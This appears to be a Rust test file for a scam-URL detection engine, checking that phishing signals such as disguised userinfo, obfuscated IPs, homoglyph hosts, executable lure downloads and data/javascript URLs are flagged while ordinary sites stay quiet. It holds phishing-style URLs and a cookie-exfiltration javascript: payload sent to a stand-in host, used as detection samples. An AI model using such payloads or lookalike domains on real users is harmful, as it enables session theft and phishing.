//! Scam-pattern rules: each rule fires on a clear case and stays quiet on a near miss (one signal
//! each here; words in `tests/rules_words.rs`, combinations in `tests/rules_combinations.rs`),
//! and the compiled section is whole and refuses corruption. The rules section is compiled from
//! the bundled `data/rules/*.tsv`, hosts and registrable domains come from the real URL and PSL
//! modules (`tests/common/rules.rs`), so these tests see what the engine sees.
#![cfg(feature = "builder")]
#![allow(clippy::panic, clippy::unwrap_used)]

#[path = "common/rules.rs"]
mod common;

use common::{check, data, has, quiet, reason, total, DANGEROUS, SUSPICIOUS};
use waspada_core::format::Envelope;
use waspada_core::rules::{self, RuleInput, Rules};

#[test]
fn thresholds_are_the_scorers() {
    assert_eq!(
        waspada_core::score::thresholds(waspada_core::engine::Sensitivity::Normal),
        (SUSPICIOUS, DANGEROUS)
    );
}

#[test]
fn userinfo_disguised_as_a_domain() {
    let r = reason("https://bca.co.id@evil.top/", "url.userinfo");
    assert_eq!(r.params["userinfo"], "bca.co.id");
    assert_eq!(r.params["host"], "evil.top");
    assert!(
        r.score >= DANGEROUS,
        "a domain before @ alone is dangerous: {r:?}"
    );
    // Without a scheme, and with a password, it is the same trick.
    assert!(reason("klikbca.com:login@203.0.113.9/", "url.userinfo").score >= DANGEROUS);
    // Plain credentials are only a hint.
    let plain = reason("https://user:pw@example.com/", "url.userinfo");
    assert!(plain.score < SUSPICIOUS, "{plain:?}");
    // Near miss: an @ in the path is not userinfo.
    assert!(!has("https://medium.com/@someone/post", "url.userinfo"));
}

#[test]
fn ip_literal_in_every_notation() {
    let dotted = reason("http://203.0.113.7/login.php", "host.ip_literal");
    assert_eq!(dotted.params["notation"], "dotted");
    for obfuscated in [
        "http://3405803783/",
        "http://0xCB007107/",
        "http://0313.0.0161.07/",
        "http://203.28935/",
        "http://0xcb.0x00.0x71.0x07/",
    ] {
        let r = reason(obfuscated, "host.ip_literal");
        assert_eq!(r.params["notation"], "obfuscated", "{obfuscated}");
        assert_eq!(r.params["ip"], "203.0.113.7", "{obfuscated}");
        assert!(r.score > dotted.score);
    }
    assert_eq!(
        reason("http://[2001:db8::1]/", "host.ip_literal").params["notation"],
        "ipv6"
    );
    // Near misses: the router at home and local development are not scams.
    quiet("http://192.168.1.1/");
    quiet("http://127.0.0.1:8080/");
    quiet("http://[::1]/");
    assert!(!has("https://1.2.3.example.com/", "host.ip_literal"));
}

#[test]
fn scripts_in_internationalised_hosts() {
    // Latin with Cyrillic "а" in one label.
    let r = reason("https://p\u{0430}ypal.com/", "host.mixed_script");
    assert_eq!(r.params["level"], "mixed_script");
    // A technical letter no language writes domains in (U+0261 LATIN SMALL LETTER SCRIPT G).
    assert!(has("https://\u{0261}oogle.com/", "host.restricted_chars"));
    // A label wholly in Cyrillic letters that pass for Latin ones, under an ASCII TLD.
    let whole = reason(
        "https://\u{0430}\u{0440}\u{0440}\u{04cf}\u{0435}.com/",
        "host.mixed_script",
    );
    assert_eq!(whole.params["level"], "whole_script");
    // Near miss: a Russian word that does not read as Latin.
    assert!(!has(
        "https://\u{043f}\u{0440}\u{0438}\u{043c}\u{0435}\u{0440}.com/",
        "host.mixed_script"
    ));
    // Accented Latin is ordinary, under .com too (Chromium shows šachy.com and ést.net): whether
    // it imitates a protected site is the lookalike check's question, not the rules'.
    assert!(reason("https://\u{0161}achy.com/", "host.punycode").score < 15);
    assert!(reason("https://m\u{00fc}ller.de/", "host.punycode").score < 15);
    // ... but a small capital is outside the allowed set (hardᴡare.com).
    assert!(has("https://hard\u{1d21}are.com/", "host.restricted_chars"));
    // Chromium's special cases: digit lookalikes, a Thai tone mark repeated, the Japanese
    // prolonged-sound mark after Han; and their near misses.
    assert_eq!(
        reason("https://xn--1-xcc.com/", "host.mixed_script").params["level"],
        "digit_lookalike"
    );
    assert_eq!(
        reason("https://xn--03c0b3ca.th/", "host.mixed_script").params["level"],
        "invisible"
    );
    assert_eq!(
        reason("https://xn--wekz60nb2ay85atj0b.jp/", "host.mixed_script").params["level"],
        "dangerous_pattern"
    );
    assert!(!has("https://xn--lck0ip02qw5ya.jp/", "host.mixed_script"));
    assert!(!has("https://xn--12c2cc4ag3b4ccu.th/", "host.mixed_script"));
    // A Cyrillic whole-script confusable is ordinary under .ru (Chromium's rule per TLD).
    assert!(!has("https://xn--e1argc3h.ru/", "host.mixed_script"));
    assert!(has("https://xn--e1argc3h.com/", "host.mixed_script"));
    // Single-script IDNs are only a small hint; a Japanese name mixing Han and Kana is normal.
    assert!(reason("https://m\u{00fc}nchen.de/", "host.punycode").score < 15);
    let jp = check("https://\u{65e5}\u{672c}\u{8a9e}\u{306e}\u{30b5}\u{30a4}\u{30c8}.jp/");
    assert!(jp.iter().all(|r| r.code == "host.punycode"), "{jp:?}");
    quiet("https://example.com/");
}

#[test]
fn abused_tlds_add_points_but_never_flag_alone() {
    let r = reason("https://some-shop.top/", "tld.abused");
    assert_eq!(r.params["tld"], "top");
    assert!(r.score > 0 && r.score < SUSPICIOUS);
    assert!(has("https://toko-murah.my.id/", "tld.abused"));
    quiet("https://tokopedia.com/");
    // A private suffix under .app is not the .app TLD's fault, nor is `top` as a label.
    assert!(!has("https://top.example.com/", "tld.abused"));
}

#[test]
fn shorteners_hide_the_destination() {
    assert_eq!(
        reason("https://bit.ly/3xYz", "url.shortener").params["shortener"],
        "bit.ly"
    );
    assert!(has("s.id/bansos2024", "url.shortener"));
    // The shortener's home page hides nothing.
    assert!(!has("https://bit.ly/", "url.shortener"));
    assert!(!has("https://bitly.example.com/3xYz", "url.shortener"));
}

#[test]
fn free_hosting_subdomains() {
    let r = reason("https://mybakery.pages.dev/", "hosting.free");
    assert_eq!(r.params["suffix"], "pages.dev");
    assert!(r.score < SUSPICIOUS, "hosting alone never flags: {r:?}");
    assert!(!r.params.contains_key("with"));
    // Carrying lure words, it adds up.
    assert!(total("https://pendaftaran-bansos.vercel.app/") >= u32::from(SUSPICIOUS));
    // Site builders outside the PSL count too, and the user's label is what the shape rules read.
    assert_eq!(
        reason("https://att-service-104599.weeblysite.com/", "hosting.free").params["suffix"],
        "weeblysite.com"
    );
    assert!(has(
        "https://att-service-104599.weeblysite.com/",
        "host.many_digits"
    ));
    // The hosting provider's own site is not a user's page.
    assert!(!has("https://pages.dev/", "hosting.free"));
    assert!(!has("https://www.weebly.com/", "hosting.free"));
    assert!(!has("https://vercel.com/docs", "hosting.free"));
}

#[test]
fn machine_made_labels() {
    assert_eq!(
        reason(
            "http://pub-89157d5a54f345cd9b410792401cf316.r2.dev/",
            "host.random_label"
        )
        .params["kind"],
        "hex"
    );
    assert!(has(
        "http://klrnegpnzggmudn7r.pages.dev/",
        "host.random_label"
    ));
    // Words, names and brands have vowels.
    for u in [
        "https://tokopedia.com/",
        "https://strengthsfinder.com/",
        "https://nightshift.example.com/",
        "https://bukalapak.com/",
    ] {
        assert!(!has(u, "host.random_label"), "{u}");
    }
}

#[test]
fn executable_downloads() {
    let r = reason(
        "https://files.example.net/Undangan%20Pernikahan%20Digital.apk",
        "download.executable",
    );
    assert_eq!(r.params["ext"], "apk");
    assert_eq!(r.params["file"], "Undangan Pernikahan Digital.apk");
    // The lure words in the file name add to it, and make the download itself worse.
    assert_eq!(r.params["lure"], "yes");
    assert!(reason("https://files.example.net/app.apk", "download.executable").score < r.score);
    assert!(has(
        "https://files.example.net/Undangan%20Pernikahan%20Digital.apk",
        "keyword.lure"
    ));
    assert!(has(
        "http://203.0.113.5/Surat-Tilang.APK?x=1",
        "download.executable"
    ));
    let scr = reason("https://example.net/photo.scr", "download.executable");
    assert!(
        scr.score > r.score,
        "a screensaver download is worse than an apk"
    );
    assert!(has("https://example.net/setup.exe", "download.executable"));
    // Near misses: a page about APKs, an .apk in the query, a domain as the last path segment.
    quiet("https://example.net/apk-guide");
    quiet("https://example.net/download?file=readme.txt");
    assert!(!has(
        "https://example.net/go/example.com",
        "download.executable"
    ));
    assert!(!has(
        "https://example.net/blog/my.apkblog",
        "download.executable"
    ));
}

#[test]
fn piles_of_subdomains_hyphens_and_digits() {
    let deep = reason(
        "https://login.secure.account.update.verify.bank.example.com/",
        "host.many_subdomains",
    );
    assert_eq!(deep.params["count"], "6");
    assert!(!has(
        "https://www.mail.example.co.uk/",
        "host.many_subdomains"
    ));
    let h = reason(
        "https://bca-konfirmasi-tarif-baru-2024.com/",
        "host.many_hyphens",
    );
    assert_eq!(h.params["count"], "4");
    assert!(!has("https://my-little-pony.com/", "host.many_hyphens"));
    assert!(has("https://8724319-coinbase.com/", "host.many_digits"));
    // Near misses: a year or a short number in a name.
    assert!(!has("https://pemilu2024.com/", "host.many_digits"));
    assert!(!has("https://web3.com/", "host.many_digits"));
}

#[test]
fn odd_ports() {
    assert_eq!(
        reason("http://example.com:2083/login", "url.odd_port").params["port"],
        "2083"
    );
    quiet("https://example.com:443/");
    quiet("http://example.com:8080/");
}

#[test]
fn data_and_javascript_navigations() {
    let d = reason("data:text/html;base64,PHNjcmlwdD4=", "scheme.data");
    assert_eq!(d.params["mime"], "text/html");
    assert!(d.score >= DANGEROUS);
    let img = reason("data:image/png;base64,iVBORw0KGgo=", "scheme.data");
    assert!(img.score < SUSPICIOUS);
    assert!(
        reason(
            "javascript:fetch('//x.top/'+document.cookie)",
            "scheme.javascript"
        )
        .score
            >= 60
    );
    // Other schemes are not the rules' business.
    quiet("mailto:someone@example.com");
}

#[test]
fn ordinary_sites_are_quiet() {
    for u in [
        "https://www.google.com/search?q=cuaca",
        "https://www.bca.co.id/id/individu",
        "https://www.tokopedia.com/",
        "https://id.wikipedia.org/wiki/Indonesia",
        "https://github.com/rust-lang/rust",
        "https://www.kemensos.go.id/",
    ] {
        quiet(u);
    }
}

#[test]
fn every_weight_and_table_is_compiled() {
    let bytes = &data().bytes;
    let env = Envelope::parse(bytes).unwrap();
    let rules = Rules::from_envelope(&env, bytes).unwrap();
    let [weights, tlds, shorteners, hosting, keywords] = rules.counts();
    assert_eq!(weights, rules::WEIGHT_KEYS.len());
    assert!(tlds > 40 && shorteners > 1000 && hosting > 3000 && keywords > 80);
    assert!(rules.is_shortener("bit.ly"));
    assert_eq!(
        rules.hosting_points("pages.dev"),
        Some(rules.weight("hosting.free_max"))
    );
}

#[test]
fn corrupt_sections_are_typed_errors() {
    let bytes = &data().bytes;
    let env = Envelope::parse(bytes).unwrap();
    let range = env.section(rules::RULES_TAG).unwrap();
    let section = &bytes[range];
    // Every truncation is refused or, if it still parses, validates or fails cleanly; never panics.
    for n in (0..section.len()).step_by(97) {
        if let Ok(r) = Rules::from_section(&section[..n]) {
            let _ = r.validate();
        }
    }
    let mut bad = section.to_vec();
    bad[0] = 9;
    assert!(Rules::from_section(&bad).is_err());
    // Flipped bytes anywhere: errors or reasons, no panic.
    for i in (0..section.len()).step_by(211) {
        let mut b = section.to_vec();
        b[i] ^= 0x5a;
        if let Ok(r) = Rules::from_section(&b) {
            let _ = r.validate();
            let _ = r.evaluate_input(&RuleInput {
                input: "https://slot-login.top:81/a.apk",
                scheme: "https",
                host: "slot-login.top",
                host_unicode: "slot-login.top",
                registrable_domain: Some("slot-login.top"),
                public_suffix: Some("top"),
                private_suffix: false,
                brand_label: None,
            });
        }
    }
    // A build with a broken data line names the file and line.
    let err = waspada_core::builder::rules::sections_from_texts(
        &waspada_core::builder::rules::RuleTexts {
            weights: "url.userinfo\tmany\n",
            abused_tlds: "",
            url_shorteners: "",
            hosting_suffixes: "",
            hosting_extra: "",
            keywords: "",
        },
    )
    .unwrap_err();
    assert!(err.contains("weights.tsv:1"), "{err}");
}

/// On an official or popular site the engine keeps only the reasons about the address itself
/// (`applies_on_official_site`), and asks the rules for just those
/// (`evaluate_on_known_site`): the same reasons, scores and params as the full evaluation
/// filtered, on the addresses that give them and on those that give others.
#[test]
fn known_sites_get_the_reasons_of_the_full_evaluation() {
    let cases = [
        "https://www.google.com/",
        "https://bca.co.id@evil.top/login",
        "https://drive.google.com/file/Surat-Tilang.apk",
        "https://www.mediafire.com/file/x/undangan-pernikahan.apk",
        "https://github.com/user/tool/releases/download/v1/setup.exe",
        "http://203.0.113.7/login.php",
        "https://docs.google.com/forms/d/e/verify-account-login/viewform",
        "https://sites.google.com/view/klikbca-login-verifikasi",
        "https://user:pw@example.com/",
        "data:text/html;base64,PGgxPmhpPC9oMT4=",
        "javascript:alert(1)",
        "https://bit.ly/3xYz",
    ];
    for url in cases {
        let (full, known) = common::with_rule_input(url, None, |rules, s| {
            let mut full = rules.evaluate_input(s);
            full.retain(|r| rules::applies_on_official_site(&r.code));
            (full, rules.evaluate_on_known_site(s))
        });
        assert_eq!(known, full, "{url}");
    }
    // The cases do exercise the kept reasons.
    assert!(has(
        "https://drive.google.com/file/Surat-Tilang.apk",
        "download.executable"
    ));
    assert!(has("https://bca.co.id@evil.top/login", "url.userinfo"));
}
